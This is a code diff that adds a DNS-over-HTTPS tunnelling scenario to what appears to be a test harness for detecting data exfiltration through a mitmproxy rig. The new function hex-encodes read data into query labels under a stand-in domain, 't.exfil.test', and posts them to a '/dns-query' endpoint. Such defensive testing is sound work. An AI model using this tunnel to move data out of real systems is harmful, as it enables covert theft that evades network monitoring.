@@ -252,6 +252,21 @@ def dns_tunnel(run_dir: Path, ca: str, host: str, server: str = "") -> None:
             raise ConnectionError("no answer: the query was dropped") from None
 
 
+def doh_tunnel(run_dir: Path, ca: str, host: str) -> None:
+    """The same names as DNS over HTTPS queries (RFC 8484): POSTed as ``application/dns-message``."""
+    import dns.message
+    import requests
+
+    with requests.Session() as http:
+        for n, read in enumerate(reads(run_dir, "PT9936", 12)):
+            hexed = read[:76].encode().hex()
+            labels = [hexed[i:i + 60] for i in range(0, len(hexed), 60)]
+            query = dns.message.make_query(".".join([*labels, f"r{n}", "t.exfil.test"]), "A").to_wire()
+            r = http.post(f"https://{host}/dns-query", data=query, verify=ca, timeout=60,
+                          headers={"content-type": "application/dns-message", "accept": "application/dns-message"})
+            r.raise_for_status()
+
+
 def dns_tunnel_via_the_rig(run_dir: Path, ca: str, host: str) -> None:
     """The same through mitmproxy's own resolver in WireGuard mode (the printed client config's DNS)."""
     dns_tunnel(run_dir, ca, host, "10.0.0.53")
@@ -314,7 +329,7 @@ def sftp(run_dir: Path, ca: str, host: str) -> None:
 
 
 SCENARIOS = {"curl": curl, "chunked-gzip": chunked_gzip, "s3": s3, "websocket": websocket, "grpc": grpc_call,
-             "raw-tls": raw_tls, "dns": dns_tunnel, "udp": udp, "sftp": sftp, "status": status,
+             "raw-tls": raw_tls, "dns": dns_tunnel, "doh": doh_tunnel, "udp": udp, "sftp": sftp, "status": status,
              "status-elsewhere": status_elsewhere,
              "status-elsewhere-after-a-forged-answer": status_elsewhere_after_a_forged_answer,
              "raw-status": raw_status, "raw-status-elsewhere": raw_status_elsewhere,
